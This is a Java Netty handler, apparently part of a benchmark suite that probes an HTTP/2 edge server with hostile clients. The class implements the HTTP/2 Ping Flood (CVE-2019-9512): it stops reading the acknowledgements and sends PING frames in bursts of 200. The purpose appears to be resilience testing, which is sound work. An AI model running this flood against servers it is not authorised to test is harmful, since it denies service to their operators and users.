package dev.backsource.benchmarks.edge.hostile;

import io.netty.channel.ChannelHandlerContext;

/** Frames that the edge has to acknowledge, to a client that doesn't read the acknowledgements (CVE-2019-9512). */
@SuppressWarnings("FutureReturnValueIgnored") // A connection that breaks is closed, and nothing is owed on it.
final class UnreadPings extends Http2AttackHandler {
    private static final int AT_ONCE = 200;
    private static final int WINDOW = 65_535;

    UnreadPings(AttackCounts counts) {
        super(counts, WINDOW);
    }

    @Override
    void opened(ChannelHandlerContext context) {
        context.channel().config().setAutoRead(false);
    }

    @Override
    public void goOn(ChannelHandlerContext context) {
        for (var i = 0; i < AT_ONCE && context.channel().isWritable(); i++) {
            writer().writePing(context, false, i, context.newPromise());
            counts().asked(1);
        }
        context.flush();
    }
}
